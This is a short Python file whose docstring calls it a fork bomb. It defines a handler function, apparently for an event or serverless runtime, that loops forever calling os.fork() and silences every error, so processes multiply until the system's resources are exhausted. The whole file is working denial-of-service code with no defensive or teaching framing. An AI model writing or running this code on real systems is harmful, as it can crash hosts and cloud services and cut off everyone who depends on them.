"""Fork bomb: every process forks for as long as it can, then spins."""

import contextlib
import os


def handler(event, ctx):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
